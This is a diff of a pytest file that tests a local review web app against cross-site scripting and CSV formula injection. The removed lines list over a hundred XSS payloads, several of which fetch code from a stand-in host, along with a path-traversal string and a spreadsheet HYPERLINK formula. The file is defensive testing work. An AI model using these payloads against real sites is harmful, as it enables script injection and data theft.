@@ -4,10 +4,11 @@ import csv
 import json
 import sqlite3
 from contextlib import closing
+from pathlib import Path
 
 import pytest
 
-from coding.review.browsing import SAVED
+from coding.review.browsing import play
 from coding.review.made_review import make_review
 from coding.review.serve_made import Client, serving
 from nldd.coding.review.records import LogEntry, Position
@@ -15,122 +16,10 @@ from nldd.coding.review.store import Store
 
 NOW = "2026-01-02T03:04:05.678Z"
 FORMULA = '=HYPERLINK("http://evil.example","x")'
-HIT = "window.__xss=1"
 # What would run if it were taken as markup, as an attribute, as an address, as a style, as JSON, or
 # as a template; each sets a mark, opens a dialog or asks another host.
-MARKUP = (
-    f"<script>{HIT}</script>",
-    f"<SCRIPT>{HIT}</SCRIPT>",
-    f"<script >{HIT}</script >",
-    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
-    f"</script><script>{HIT}</script>",
-    f"</title><script>{HIT}</script>",
-    f"</textarea><script>{HIT}</script>",
-    f"</style><script>{HIT}</script>",
-    f"</noscript><script>{HIT}</script>",
-    f"<!--><script>{HIT}</script>-->",
-    f"--><script>{HIT}</script>",
-    f"]]><script>{HIT}</script>",
-    f"<script src=data:text/javascript,{HIT}></script>",
-    "<script src=//evil.example/x.js></script>",
-    "<script type=module>import('//evil.example/x.js')</script>",
-    f"<svg><script>{HIT}</script></svg>",
-    f"<svg><script href=data:,{HIT} /></svg>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></table></math>",
-    f"<template><script>{HIT}</script></template>",
-    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
-    f"<iframe srcdoc='<script>parent.{HIT[7:]}</script>'></iframe>",
-    "<iframe src=javascript:parent.__xss=1></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<form action=//evil.example/><button>Go</button></form>",
-    "<img src=//evil.example/x.png>",
-    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
-)
-EVENTS = (
-    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
-    *("onbegin", "onanimationstart", "ontransitionend", "onwheel", "onkeydown", "oninput"),
-)
-ELEMENTS = (
-    "<img src=x {}={}>",
-    "<svg {}={}>",
-    "<body {}={}>",
-    "<details open {}={}>",
-)
-ATTRIBUTES = (
-    *(ELEMENTS[i % len(ELEMENTS)].format(event, HIT) for i, event in enumerate(EVENTS)),
-    f'" onmouseover="{HIT}',
-    f"' onfocus='{HIT}' autofocus='",
-    f'"><img src=x onerror="{HIT}">',
-    f"'><svg/onload={HIT}>",
-    f"` onerror=`{HIT}",
-    f"x onerror={HIT} ",
-    f'" style="animation-name:x" onanimationstart="{HIT}',
-    f"<input autofocus onfocus={HIT}>",
-    f"<select autofocus onfocus={HIT}>",
-    f"<video><source onerror={HIT}></video>",
-    f"<audio src=x onerror={HIT}>",
-    f"<marquee onstart={HIT}>x</marquee>",
-    f"<img/src=x/onerror={HIT}//",
-    f"<img src=x onerror\x0c=\x0c{HIT}>",
-    f"<img src=x:x onerror\t=\n'{HIT}'>",
-    f"<img src=`x` onerror={HIT}>",
-    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
-)
-ADDRESSES = (
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "\x01javascript:alert(1)",
-    "javascript://%0aalert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "//evil.example/%2e%2e",
-    "http://evil.example/?a=<script>",
-    "../../../../etc/passwd",
-    "#/item/<script>alert(1)</script>",
-    "blob:http://evil.example/1",
-)
-STYLES = (
-    "x{background:url(//evil.example/x)}",
-    "</style><style>@import '//evil.example/x.css';</style>",
-    "expression(alert(1))",
-    "--x:url(//evil.example/y)",
-    "<style>*{background-image:url(//evil.example/z)}</style>",
-)
-BREAKS = (
-    f'"}};{HIT};//',
-    f"';{HIT};'",
-    f"`${{{HIT}}}`",
-    f"${{{HIT}}}",
-    f"{{{{constructor.constructor('{HIT}')()}}}}",
-    f"{{% {HIT} %}}",
-    f"<%= {HIT} %>",
-    f"#{{{HIT}}}",
-    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
-    f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e",
-    f"&lt;script&gt;{HIT}&lt;/script&gt;",
-    f"&#60;script&#62;{HIT}&#60;/script&#62;",
-    "__proto__",
-    "constructor",
-    '{"__proto__": {"polluted": 1}}',
-    "toString",
-    FORMULA,
-)
-UNICODE = (
-    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
-    f"\u2028{HIT}\u2029",
-    f"\u202e<script>{HIT}</script>\u202c",
-    f"\ufeff<script>{HIT}</script>",
-    f"<\u200bscript>{HIT}</script>",
-    f"<\u017fcript>{HIT}</\u017fcript>",
-    f"\u00bcscript\u00be{HIT}\u00bc/script\u00be",
-    "مرحبا<img src=x onerror=alert(1)>🚲",
-)
-PAYLOADS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *STYLES, *BREAKS, *UNICODE)
+KINDS = json.loads(Path(__file__).with_name("payloads.json").read_text("utf-8"))
+PAYLOADS = tuple(payload for payloads in KINDS.values() for payload in payloads)
 # Elements of which the page has none of its own, and attributes that run something.
 FOREIGN = """() => [...document.querySelectorAll('*')].filter((node) =>
   node.matches('iframe, object, embed, base, img, video, audio, math, style, template, marquee')
@@ -138,10 +27,6 @@ FOREIGN = """() => [...document.querySelectorAll('*')].filter((node) =>
     || (/^(href|src|action|data|srcdoc)$/.test(name) && !/^(#|\\/(?!\\/))/.test(value)))
 ).map((node) => node.outerHTML.slice(0, 200))"""
 RAN = "() => [window.__xss, {}.polluted, document.scripts.length]"
-
-
-def test_there_are_a_hundred_payloads():
-    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100
 
 
 def make_hostile(path, payloads, names):
@@ -179,8 +64,8 @@ def make_hostile(path, payloads, names):
 class Lookout:
     """Goes through the page and keeps what ran, or stands in it and is not its own."""
 
-    def __init__(self, tab, payloads):
-        self.tab, self.page, self.payloads, self.found = tab, tab.page, payloads, []
+    def __init__(self, tab):
+        self.tab, self.page, self.found = tab, tab.page, []
 
     def look(self, where):
         ran, foreign = self.page.evaluate(RAN), self.page.evaluate(FOREIGN)
@@ -191,105 +76,76 @@ class Lookout:
         self.tab.go(route, there)
         self.look(route)
 
-    def glance(self):
-        """The first answer, the list and the disagreements."""
+    def press(self, *script):
+        for step in script:
+            play(self.page, step)
+            self.look(step)
+
+    def click(self, place):
+        self.page.click(place)
+        self.look(place)
+
+    def go_through_all(self):
+        """All views, many answers, all dialogs and all moves."""
+        page = self.page
         self.look("first answer")
         self.open("#/list", ".list-table tbody tr")
-        assert self.page.text_content("tr[data-item='1'] th a") == self.payloads[0]
+        assert page.text_content("tr[data-item='1'] th a") == PAYLOADS[0]
         self.open("#/settle", ".settle .card")
-
-    def stay(self):
-        """Many answers, all dialogs and all moves."""
-        for item in range(1, len(self.payloads) + 1, 7):
+        for item in range(1, len(PAYLOADS) + 1, 7):
             self.open(f"#/item/{item}", f".answer >> text=Answer {item}")
-        for step in ("ArrowRight", "1", "Enter", "ArrowLeft", "u", "?", "Escape", "f", "Escape"):
-            self.page.keyboard.press(step)
-            self.look(step)
-        self.page.keyboard.press("/")
-        self.page.keyboard.type("<img")
-        self.look("filter")
-        self.page.keyboard.press("Escape")
+        self.press("ArrowRight", "1", "Enter", "ArrowLeft", "u", "?", "Escape", "f", "Escape")
+        self.press("/", "><img", "Escape")
         self.open("#/item/0", ".answer")
-        self.page.wait_for_selector(SAVED)
-        self.page.keyboard.press("a")
-        self.page.wait_for_selector(".alike-list li >> nth=5")
-        self.look("alike")
-        self.page.keyboard.press("Escape")
-        self.page.keyboard.press("+")
-        self.page.fill("dialog input", f"<SCRIPT>{HIT}</SCRIPTS>")  # nearly as one that is there
-        self.page.keyboard.press("Enter")
-        self.page.wait_for_selector("text=Add it all the same")
-        self.look("a code that looks misspelt")
-        self.page.click("text=Add it all the same")
-        self.page.wait_for_selector("dialog", state="detached")
-        self.look("new code")
+        play(page, "saved a")
+        page.wait_for_selector(".alike-list li >> nth=5")
+        self.press("Escape", "+")
+        page.fill("dialog input", PAYLOADS[1].replace("T>", "TS>"))  # nearly as one that is there
+        self.press("Enter")
+        page.wait_for_selector("text=Add it all the same")
+        self.click("text=Add it all the same")
+        page.wait_for_selector("dialog", state="detached")
         self.open("#/list", ".list-table tbody tr")
-        self.page.fill("#list-search", self.payloads[0])
-        self.page.select_option("#list-code", self.payloads[-1])
+        page.fill("#list-search", PAYLOADS[0])
+        page.select_option("#list-code", PAYLOADS[-1])
         self.look("search")
         self.open("#/settle", ".settle .card")
-        self.page.click("summary")
-        self.page.click("text=Other codes >> nth=0")
-        self.look("other codes")
+        self.click("summary")
+        self.click("text=Other codes >> nth=0")
         self.open("#/keys", ".help-table")
-        self.page.click("#open-settings")
-        self.page.check("#set-codes-fixed")
-        self.look("settings")
-        self.page.keyboard.press("Escape")
-        self.look("keys of codes")
+        self.click("#open-settings")
+        self.click("#set-codes-fixed")
+        self.press("Escape")
 
 
-def check_page(visit, path, payloads, names, whole):
-    make_hostile(path, payloads, names)
-    tab = visit(path, coder=names, show=(f"{names} 1", f"{names} 2"), width=1300)
-    lookout = Lookout(tab, payloads)
-    lookout.glance()
-    if whole:
-        lookout.stay()
+@pytest.mark.slow
+@pytest.mark.parametrize("part", range(4))
+def test_no_payload_runs_on_any_view(visit, tmp_path, part):
+    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100
+    names = " ".join(PAYLOADS[part::4]).replace("\x01", "")
+    make_hostile(tmp_path / "new.review.db", PAYLOADS, names)
+    show = (f"{names} 1", f"{names} 2")
+    tab = visit(tmp_path / "new.review.db", coder=names, show=show, width=1300)
+    lookout = Lookout(tab)
+    lookout.go_through_all()
     assert lookout.found == []
-    host = f"http://127.0.0.1:{tab.running.port}/"
-    assert [url for url in tab.asked if not url.startswith(host)] == []
+    assert [url for url in tab.asked if not url.startswith(tab.host)] == []
     assert tab.opened == []
     assert [text for text in tab.complaints if "Content Security Policy" in text] == []
     assert tab.page.text_content("#table") == f"{names}.csv"
 
 
-@pytest.mark.slow
-def test_names_and_answers_that_are_programs_do_not_run(visit, tmp_path):
-    payloads = (
-        MARKUP[0],
-        ATTRIBUTES[0],
-        f"'><svg/onload={HIT}>",
-        "javascript:alert(1)",
-        "__proto__",
-    )
-    check_page(visit, tmp_path / "new.review.db", payloads, MARKUP[0], whole=False)
-
-
-@pytest.mark.slow
-@pytest.mark.parametrize("part", range(8))
-def test_no_payload_runs_on_any_view(visit, tmp_path, part):
-    names = " ".join(PAYLOADS[part::8]).replace("\x01", "")
-    check_page(visit, tmp_path / "new.review.db", PAYLOADS, names, whole=True)
-
-
-def test_the_policy_allows_nothing_unsafe_and_files_are_never_shown(tmp_path):
+def test_files_that_are_handed_out_are_never_shown_and_hold_no_formula(tmp_path):
     path = tmp_path / "new.review.db"
     make_hostile(path, (*PAYLOADS[:20], FORMULA), PAYLOADS[0])
     with serving(path, PAYLOADS[0], announce=lambda address: None) as running:
         client = Client(running.address)
-        for address in ("/", "/static/app.js", "/api/study", "/nothing"):
-            _, headers, _ = client.ask("GET", address)
-            policy = headers["content-security-policy"]
-            assert "unsafe" not in policy and "default-src 'none'" in policy, address
-            assert headers["x-content-type-options"] == "nosniff"
-        for kind in ("csv", "jsonl", "label-studio"):
+        for kind in ("jsonl", "label-studio", "csv"):
             status, headers, body = client.ask("GET", f"/api/export?kind={kind}")
             assert status == 200, body
             assert headers["content-disposition"].startswith("attachment;")
             assert "html" not in headers["content-type"]
-            if kind == "csv":
-                table = list(csv.reader(body.decode("utf-8-sig").splitlines()))
         client.close()
-    assert not [cell for row in table for cell in row if cell.startswith("=")]
-    assert [cell for row in table for cell in row if FORMULA in cell]
+    cells = [c for row in csv.reader(body.decode("utf-8-sig").splitlines()) for c in row]
+    assert not [cell for cell in cells if cell.startswith("=")]
+    assert [cell for cell in cells if FORMULA in cell]
